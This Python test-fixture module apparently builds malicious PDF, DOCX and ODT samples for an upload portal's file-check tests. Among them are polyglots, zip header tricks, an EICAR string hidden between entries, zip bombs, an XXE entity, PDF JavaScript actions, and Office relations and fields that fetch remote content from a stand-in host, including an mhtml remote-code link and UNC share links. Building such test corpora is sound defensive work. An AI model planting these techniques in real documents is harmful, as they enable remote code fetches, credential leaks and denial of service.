"""More bad files than `file_corpus` has: two kinds in one, loops, lies, and ways to make a reader fetch something.

`HOSTILE[label] = (name, factory, code)`, as `file_corpus.BAD`.
"""

import gzip
import struct
import zipfile
from functools import partial
from io import BytesIO

from pikepdf import Array, Dictionary, Name

from portal.core.file_checks.viruses import EICAR
from tests.core.file_makers import (
    HTML,
    OFFICE,
    OLE,
    XML,
    Factory,
    changed,
    docx,
    docx_body,
    docx_part,
    docx_relation,
    odt,
    odt_body,
    pdf,
    pdf_annotation,
    pdf_root,
    pdf_with,
    unzip,
    with_entry,
    zip_of,
)


def first_entry(name: str, data: bytes) -> bytes:
    """A DOCX that begins with this entry, as it is: another program reads only the beginning."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for entry, content in {name: data, **unzip(docx())}.items():
            archive.writestr(entry, content)
    return file.getvalue()


def hidden_between_entries() -> bytes:
    """Bytes that belong to no entry, before the directory; its end record says where that begins."""
    data = docx()
    at = struct.unpack_from("<L", data, data.rindex(b"PK\5\6") + 16)[0]
    moved = data[:at] + EICAR + data[at:]
    end = moved.rindex(b"PK\5\6")
    return moved[: end + 16] + struct.pack("<L", at + len(EICAR)) + moved[end + 20 :]


def lying_header() -> bytes:
    """The entry's own header says another size than the directory: two readers see two files."""
    data = with_entry("word/extra.bin", b"inhoud" * 9, zipfile.ZIP_STORED)
    at = data.index(b"word/extra.bin") - 30
    return data[: at + 18] + struct.pack("<LL", 6, 6) + data[at + 26 :]


def nested(levels: int) -> bytes:
    return XML + b"<a>" * levels + b"</a>" * levels


def field(text: bytes) -> bytes:
    return docx_body(b'<w:p><w:fldSimple w:instr="' + text + b'"/></w:p>')


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF written by hand, with a right table of where its objects stand."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))
    return out + table + end


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def page_tree_loop() -> bytes:
    return raw_pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def table_loop() -> bytes:
    """The table of objects names itself as the one before it."""
    data = raw_pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE)
    at = data.index(b"xref\n")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def deep_arrays() -> bytes:
    return raw_pdf(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE[:-2] + b"/X" + b"[" * 50_000 + b"]" * 50_000 + b">>"
    )


def outside_stream() -> bytes:
    """The content of a stream in another file."""

    def add(document) -> None:
        document.Root.Extra = document.make_stream(b"")
        document.Root.Extra.F = Dictionary(Type=Name.Filespec, F=r"\\server\share\x")

    return pdf_with(add)


def outside_page() -> bytes:
    """A page of another file, shown on this one (ISO 32000-1, 8.10.4)."""

    def add(document) -> None:
        document.Root.Extra = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        document.Root.Extra.Ref = Dictionary(F="https://a.example/x.pdf", Page=0)

    return pdf_with(add)


def link(**action: object) -> bytes:
    return pdf_annotation(Subtype=Name.Link, A=Dictionary(**action))


def odt_part(name: str, data: bytes) -> bytes:
    return changed(odt, {name: data})


def _pdf(make: Factory, code: str) -> tuple[str, Factory, str]:
    return ("plan.pdf", make, code)


def _docx(make: Factory, code: str) -> tuple[str, Factory, str]:
    return ("plan.docx", make, code)


def _odt(make: Factory, code: str) -> tuple[str, Factory, str]:
    return ("plan.odt", make, code)


HOSTILE: dict[str, tuple[str, Factory, str]] = {
    # Two kinds in one
    "pdf that is also a docx": _pdf(lambda: pdf() + docx(), "content"),
    "docx that is also a pdf": _docx(lambda: first_entry("a.txt", pdf()[:900]), "content"),
    "docx that is also a web page": _docx(lambda: first_entry("a.txt", HTML), "content"),
    "pdf that is also a program": _pdf(lambda: b"MZ" + bytes(60) + pdf(), "content"),
    "rich text named docx": _docx(lambda: rb"{\rtf1\ansi x}", "content"),
    "flat xml named odt": _odt(lambda: XML + b"<office:document/>", "content"),
    "gzip named docx": _docx(lambda: gzip.compress(docx()), "content"),
    "workbook named docx": _docx(
        lambda: zip_of(("[Content_Types].xml", b"<Types/>"), ("xl/a.xml", b"<a/>")), "content"
    ),
    "mail archive named docx": _docx(lambda: b"MIME-Version: 1.0\r\n\r\n" + HTML, "content"),
    "script before its name": ("plan.pdf.js", pdf, "extension"),
    "name with a null": ("plan.exe\0.pdf.exe", pdf, "extension"),
    "picture with script": ("plan.svg", lambda: b"<svg onload='x()'/>", "extension"),
    "template of word": ("plan.dotm", docx, "old_word"),
    # Lies of a zip
    "virus between entries": _docx(hidden_between_entries, "virus"),
    "two sizes for one entry": _docx(lying_header, "broken"),
    "drive letter": _docx(lambda: with_entry("C:/x.xml"), "path"),
    "device": _docx(lambda: with_entry(_device()), "path"),
    # Deep and long
    "docx nested too deep": _docx(lambda: docx_part(nested(20_000)), "too_slow"),
    "odt nested too deep": _odt(lambda: odt_part("settings.xml", nested(20_000)), "too_slow"),
    "pdf nested too deep": _pdf(deep_arrays, "broken"),
    "pdf with pages in a loop": _pdf(page_tree_loop, "broken"),
    "pdf with a table in a loop": _pdf(table_loop, "broken"),
    "pdf without a table": _pdf(lambda: pdf().replace(b"startxref", b"startxxxx"), "broken"),
    "odt bomb": _odt(lambda: odt_part("Pictures/x.png", bytes(20_000_000)), "zip_bomb"),
    # What a reader would fetch
    "docx with remote code (mhtml)": _docx(
        lambda: docx_relation("oleObject", "mhtml:http://a.example/x!x-usc:http://a.example/x"), "external"
    ),
    "docx with part from elsewhere": _docx(lambda: docx_relation("subDocument", "http://a.example/x"), "external"),
    "docx with frame from elsewhere": _docx(lambda: docx_relation("frame", "http://a.example/x"), "external"),
    "docx with search link": _docx(lambda: docx_relation("hyperlink", "search-ms:query=x"), "external"),
    "docx with app link": _docx(lambda: docx_relation("hyperlink", "ms-word:ofe|u|http://a.example/x"), "external"),
    "docx with settings from elsewhere": _docx(
        lambda: changed(
            docx,
            {
                "word/_rels/webSettings.xml.rels": f'<Relationships><Relationship Id="r1" Type="{OFFICE}frame"'
                ' Target="http://a.example/" TargetMode="External"/></Relationships>'.encode()
            },
        ),
        "external",
    ),
    "docx with picture field": _docx(
        lambda: field(b"INCLUDEPICTURE &quot;http://a.example/x.png&quot; \\d"), "external"
    ),
    "docx with text field": _docx(lambda: field(rb" includetext &quot;\\\\server\\share\\x.docx&quot;"), "external"),
    "docx with linked cells": _docx(lambda: field(b"LINK Excel.Sheet.12 C:\\x.xlsx R1C1 \\a"), "external"),
    "docx with drawing from elsewhere": _docx(
        lambda: docx_body(b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://a.example/x"/>'),
        "external",
    ),
    "odt with frame from elsewhere": _odt(
        lambda: odt_body(b'<n:floating-frame xl:href="https://a.example/"/>'), "external"
    ),
    "odt with macro field": _odt(lambda: odt_body(b'<n:execute-macro n:name="x"/>'), "macro"),
    "odt with applet": _odt(lambda: odt_body(b'<n:applet n:code="x"/>'), "embedded"),
    "odt with zip": _odt(lambda: odt_part("Pictures/x.png", docx()), "embedded"),
    "odt with ole picture": _odt(lambda: odt_part("Pictures/x.png", OLE), "embedded"),
    "odt with xxe": _odt(
        lambda: odt_part("meta.xml", XML + b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://a.example'>]><x>&a;</x>"), "dtd"
    ),
    "odt with virus in its text": _odt(lambda: odt_part("Object 1/content.xml", b"<a>" + EICAR + b"</a>"), "virus"),
    "pdf with link to a share": _pdf(lambda: link(S=Name.URI, URI=r"\\server\share"), "external"),
    "pdf with link to a file": _pdf(lambda: link(S=Name.URI, URI="file://server/share"), "external"),
    "pdf that opens another file": _pdf(lambda: link(S=Name.GoToR, F=r"\\server\x.pdf", D=Array([0])), "external"),
    "pdf with content elsewhere": _pdf(outside_stream, "external"),
    "pdf with page elsewhere": _pdf(outside_page, "external"),
    # What a reader would do
    "pdf that starts a thread elsewhere": _pdf(lambda: link(S=Name.GoToE, F="x"), "script"),
    "pdf that fills in a form": _pdf(lambda: link(S=Name.ImportData, F="x.fdf"), "script"),
    "pdf with script at printing": _pdf(
        lambda: pdf_root("/AA", lambda d: Dictionary(WP=Dictionary(S=Name.JavaScript, JS="x"))), "script"
    ),
    "pdf with sound": _pdf(partial(pdf_annotation, Subtype=Name.Sound), "embedded"),
    "pdf with three dimensions": _pdf(lambda: pdf_annotation(Subtype=Name("/3D")), "embedded"),
    "pdf with film": _pdf(partial(pdf_annotation, Subtype=Name.Movie), "embedded"),
    "pdf with link to data": _pdf(lambda: link(S=Name.URI, URI="data:text/html,x"), "script"),
}


def _device() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/device")
    entry.external_attr = 0o060666 << 16
    return entry
